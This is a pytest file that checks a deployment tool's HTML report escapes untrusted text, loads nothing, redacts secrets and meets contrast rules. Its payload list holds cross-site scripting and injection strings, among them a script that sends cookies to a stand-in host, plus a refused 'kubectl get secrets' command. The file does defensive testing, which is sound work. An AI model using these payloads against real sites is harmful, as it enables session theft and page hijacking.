"""The report is a page that shows others' text as text, loads nothing, and says the cause first."""

import base64
import hashlib
import html
import re
from dataclasses import fields, replace
from html.parser import HTMLParser
from pathlib import Path

import pytest

from oi_deploy.errors import Status
from oi_deploy.redact import Redactor
from oi_deploy.report import publish, report_html, summary_markdown
from oi_deploy.result import CheckLine, CommandLine, DeploymentLine, Phase, RunResult
from tests.unit.runs import ATTACKS, RESULT, told

Tag = tuple[str, tuple[tuple[str, str | None], ...]]


class Page(HTMLParser):
    """What a browser makes of a page."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: list[Tag] = []
        self.text = ""
        self.style = ""
        self.comments: list[str] = []
        self._inside = ""
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, tuple(attrs)))
        self._inside = tag

    def handle_endtag(self, tag: str) -> None:
        self.tags.append((f"/{tag}", ()))
        self._inside = ""

    def handle_data(self, data: str) -> None:
        if self._inside == "style":
            self.style += data
        else:
            self.text += data

    def handle_comment(self, data: str) -> None:
        self.comments.append(data)

    def values(self, tag: str, name: str) -> list[str]:
        """An attribute of all tags of a kind that have it."""
        return [
            value or "" for t, given in self.tags for n, value in given if (t, n) == (tag, name)
        ]


def page(result: RunResult, *secrets: str) -> Page:
    return Page(report_html(result, Redactor(secrets)))


IN_HTML = [
    *ATTACKS,
    "</pre></code></td></table></section></body></html><h1>owned</h1>",
    "<script>fetch('https://e.example/'+document.cookie)</script>",
    "<ScRiPt src=//e.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    '" onmouseover="alert(1)" x="',
    "' onfocus='alert(1)' autofocus='",
    "` onclick=`alert(1)",
    "javascript:alert(1)",
    "JaVaScRiPt&#58;alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "</style><style>body{display:none}</style>",
    "x;} body { background: url(https://e.example/?css) } @import 'https://e.example/a.css';",
    "<div style='position:fixed;inset:0'>all is well</div>",
    "<meta http-equiv=refresh content='0;url=https://e.example'>",
    "<base href=https://e.example><form action=https://e.example><button>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href='https://e.example'>the run on GitHub</a>",
    "<!-- <b>",
    "<b",
    "<table><tr><td",
    "<textarea><title>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "{{ 7 * 7 }}{% raw %}{{ result.__class__ }}{# x #}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
]


@pytest.mark.parametrize("status", [Status.FAILED, Status.DEPLOYED])
@pytest.mark.parametrize("attack", IN_HTML)
def test_whatever_others_write_is_shown_as_they_wrote_it_and_does_nothing(
    attack: str, status: Status
) -> None:
    shown, plain = page(told(attack, status)), page(told("x", status))
    assert shown.tags == plain.tags
    assert shown.style == plain.style and not shown.comments
    words = " ".join(attack.splitlines()[0].replace("\r", " ").split())
    assert words[:20] in " ".join(shown.text.split())


def test_the_attacks_reach_every_place_that_others_can_write_in() -> None:
    ours = {"status"}
    texts = [f.name for f in fields(RunResult) if f.type in ("str", str) and f.name not in ours]
    assert [name for name in texts if getattr(told("x", Status.FAILED), name) != "x"] == []


def test_characters_that_deceive_are_shown_by_their_code() -> None:
    text = page(told("a\u202ereversed\u2066\u200b\x1b[31m\x00\ud83d", Status.FAILED)).text
    assert "a<U+202E>reversed<U+2066><U+200B><U+D83D>" in text
    assert not re.search("[\u202e\u2066\u200b\x1b\x00]", text)


def test_the_page_loads_nothing_runs_nothing_and_lets_only_its_own_style_through() -> None:
    shown = page(RESULT)
    names = {tag for tag, _ in shown.tags}
    assert not names & {"script", "link", "img", "iframe", "object", "embed", "base", "form"}
    attributes = {name for _, given in shown.tags for name, _ in given}
    assert not [name for name in attributes if name in ("src", "style") or name.startswith("on")]
    assert "url(" not in shown.style and "@import" not in shown.style
    digest = base64.b64encode(hashlib.sha256(shown.style.encode()).digest()).decode()
    assert shown.values("meta", "content")[0] == (
        f"default-src 'none'; style-src 'sha256-{digest}'; base-uri 'none'; form-action 'none'"
    )


@pytest.mark.parametrize(
    "address", ["javascript:alert(1)", "data:text/html,x", " https://e", "//e", "https://a b"]
)
def test_a_link_leads_to_a_web_page_or_is_none(address: str) -> None:
    assert page(replace(RESULT, repository="a/b", run_url=address)).values("a", "href") == []
    good = "https://github.com/a/b/actions/runs/7"
    assert page(replace(RESULT, repository="a/b", run_url=good)).values("a", "href") == [good]


def test_it_has_a_light_and_a_dark_theme_fits_a_phone_and_can_be_printed() -> None:
    shown = page(RESULT)
    assert "@media (prefers-color-scheme: dark)" in shown.style
    assert "@media print" in shown.style and "@media (max-width:" in shown.style
    assert "width=device-width, initial-scale=1" in shown.values("meta", "content")
    # What has a colour has one in every theme.
    themes = re.findall(r":root \{(.*?)\}", shown.style, re.DOTALL)
    names = [set(re.findall(r"(--[a-z-]+):", theme)) for theme in themes]
    assert len(names) == 3 and names[0] == names[1] == names[2]
    assert set(re.findall(r"var\((--[a-z-]+)\)", shown.style)) == names[0]


def luminance(colour: str) -> float:
    parts = [int(colour[at : at + 2], 16) / 255 for at in (1, 3, 5)]
    linear = [p / 12.92 if p <= 0.04045 else ((p + 0.055) / 1.055) ** 2.4 for p in parts]
    return 0.2126 * linear[0] + 0.7152 * linear[1] + 0.0722 * linear[2]


@pytest.mark.parametrize("ink", ["ink", "soft", "good", "bad"])
def test_words_stand_out_from_what_is_behind_them_in_every_theme(ink: str) -> None:
    """WCAG 2.1, 1.4.3: 4.5 to 1."""
    for theme in re.findall(r":root \{(.*?)\}", page(RESULT).style, re.DOTALL):
        colours = dict(re.findall(r"--([a-z-]+): (#[0-9a-f]{6})", theme))
        for behind in ("page", "field", "bad-field"):
            pair = sorted([luminance(colours[ink]), luminance(colours[behind])])
            assert (pair[1] + 0.05) / (pair[0] + 0.05) >= 4.5, (ink, behind, colours)


def test_no_secret_gets_into_the_page_by_being_escaped() -> None:
    secret = "a|b*c<d>&e_f\"g'h"
    text = report_html(told(f"denied: {secret}", Status.FAILED), Redactor([secret]))
    assert "denied: ***" in text
    for form in (secret, html.escape(secret), html.escape(secret, quote=False)):
        assert form not in text
    assert "g&#39;h" not in text and "c&lt;d" not in text


def test_a_link_s_address_holds_no_secret_and_no_characters_that_deceive() -> None:
    leaking = replace(RESULT, repository="a/b", run_url="https://u:topsecret@e.example/\u202e")
    assert page(leaking, "topsecret").values("a", "href") == ["https://u:***@e.example/<U+202E>"]


_CAUSES = {
    Status.ROLLED_BACK: "the image crashes",
    Status.REFUSED: "not allowed",
    Status.FAILED: "the registry is down",
    Status.TIMED_OUT: "`timeout` is 60 s",
    Status.CANCELLED: "The run was cancelled",
}


@pytest.mark.parametrize("status", _CAUSES)
def test_what_went_wrong_comes_first_then_what_to_do_then_how_things_are(status: Status) -> None:
    failed = replace(RESULT, status=status, error=_CAUSES[status], image_tag="", image_digest="")
    shown = page(failed)
    for text in (shown.text, summary_markdown(failed)):
        places = [
            text.index(words)
            for words in (str(status), _CAUSES[status], "What to do", "before", "What was asked")
        ]
        assert places == sorted(places)
    # There is advice even where the ending brought none.
    advice = shown.text.split("What to do")[1].split("What is running now")[0]
    assert len(advice.split()) > 5


@pytest.mark.parametrize(
    ("status", "sentence"),
    [
        (Status.DEPLOYED, "The Deployment web in production runs r.example.com/a:1."),
        (Status.PUSHED, "The registry has r.example.com/a:1."),
        (Status.COMPLETED, "nothing had to be deployed or pushed"),
    ],
)
def test_a_good_ending_says_what_is_so_and_gives_no_advice(status: Status, sentence: str) -> None:
    good = replace(RESULT, status=status)
    for text in (page(good).text, summary_markdown(good)):
        assert sentence in text
        assert "What to do" not in text and "No Deployment was changed" not in text


_SAME = DeploymentLine("production", "web", "r/a:0", "r/a:0", "6", "8")
_OTHER = DeploymentLine("production", "web", "r/a:0", "r/a:1", "6", "7")


@pytest.mark.parametrize(
    ("rollback", "deployment", "sentence"),
    [
        ((), None, "No Deployment was changed."),
        ((), _OTHER, "What it has changed stays changed."),
        ((True,), _SAME, "is as it was before the run."),
        ((True, False), _OTHER, "Not every Deployment is as it was before the run"),
    ],
)
def test_a_bad_ending_says_what_it_has_left_behind(
    rollback: tuple[bool, ...], deployment: DeploymentLine | None, sentence: str
) -> None:
    failed = replace(
        RESULT,
        status=Status.FAILED,
        error="it broke",
        deployment="",
        deployments=(deployment,) if deployment else (),
        rollback=tuple(CheckLine(ok, "x") for ok in rollback),
    )
    for text in (page(failed).text, summary_markdown(failed)):
        assert sentence in text


def test_before_and_now_stand_beside_each_other() -> None:
    done = replace(RESULT, deployments=(_OTHER,))
    cells = ["r/a:0", "r/a:1", "6", "7"]
    row = "| image | <code>r/a:0</code> | <code>r/a:1</code> |\n| revision | <code>6</code> | "
    assert row in summary_markdown(done)
    table = page(done).text.split("Deployment web in production")[-1].split("How it was")[0]
    assert re.findall(r"r/a:\d|\d", table) == cells


def test_a_refused_command_has_its_rule_and_reason() -> None:
    command = CommandLine(
        "kubectl get secrets", False, None, 0.0, False, "kubectl.get", "no reading"
    )
    refused = replace(RESULT, commands=(command,))
    assert "kubectl get secrets  # no reading (kubectl.get)" in summary_markdown(refused)
    text = " ".join(page(refused).text.split())
    assert "Refused commands kubectl get secretsno reading (kubectl.get)" in text
    assert "Commands that changed" not in text


def test_a_phase_lies_under_the_one_that_it_is_a_part_of() -> None:
    phases = (
        Phase("checks", 1.0, 0.0),
        Phase("turn 1", 4.0, 1.5),
        Phase("verification", 3.0, 6.0),
        Phase("agent", 9.0, 1.0),
        Phase("rollback", 10.0, 10.0),
    )
    shown = page(replace(RESULT, phases=phases))
    begins = shown.values("rect", "x")[1::2]
    widths = shown.values("rect", "width")[1::2]
    assert begins == ["0.00%", "5.00%", "7.50%", "30.00%", "50.00%"]
    assert widths == ["5.00%", "45.00%", "20.00%", "15.00%", "50.00%"]
    assert shown.values("text", "x")[::2] == ["0", "0", "14", "14", "0"]
    order = ["checks", "agent", "turn 1", "verification", "rollback"]
    assert re.findall("|".join(order), shown.text.split("Where the time went")[1]) == order
    assert "| &emsp;turn 1 | 1.5 s | 4.0 s |" in summary_markdown(replace(RESULT, phases=phases))


def test_very_short_and_very_many_phases_stay_on_the_picture() -> None:
    parts = tuple(Phase(f"turn {n}", 0.0, float(n)) for n in range(200))
    shown = page(replace(RESULT, phases=(Phase("agent", 200.0), *parts)))
    assert len(shown.values("rect", "x")) == 2
    shown = page(replace(RESULT, phases=(Phase("agent", 100.0), Phase("report", 0.0, 100.0))))
    assert (shown.values("rect", "x")[3], shown.values("rect", "width")[3]) == ("99.50%", "0.50%")
    assert not page(replace(RESULT, phases=())).values("rect", "x")


def test_a_flood_of_text_leaves_a_page_that_a_browser_can_open() -> None:
    long = "x" * 900_000
    line = CommandLine(f"docker build --label {long}", True, 0, 1.0, True)
    flooded = replace(
        RESULT,
        status=Status.FAILED,
        prompt="a line\n" * 10**6,
        error=f"{long}\nlast words",
        model=long,
        commands=(line,) * 10_000,
        checks=(CheckLine(False, "z" * 20_000),) * 10_000,
    )
    text = report_html(flooded, Redactor([]))
    assert len(text) < 500_000
    assert "(a line of 900000 bytes)\nlast words" in text and "... and 9800 more" in text
    assert "... and 999800 more" in text


def test_the_same_run_makes_the_same_page() -> None:
    assert report_html(RESULT, Redactor([])) == report_html(RESULT, Redactor([]))


def test_a_page_that_was_there_before_is_replaced_and_nothing_of_it_stays(tmp_path: Path) -> None:
    source, workspace = tmp_path / "report.html", tmp_path / "workspace"
    workspace.mkdir()
    source.write_text("<!doctype html>ours")
    (workspace / "deploy.report.html").write_text("<script>alert(1)</script>")
    name = publish(source, workspace, "deploy.report.html", redactor=Redactor([]))
    assert (workspace / name).read_text() == "<!doctype html>ours"
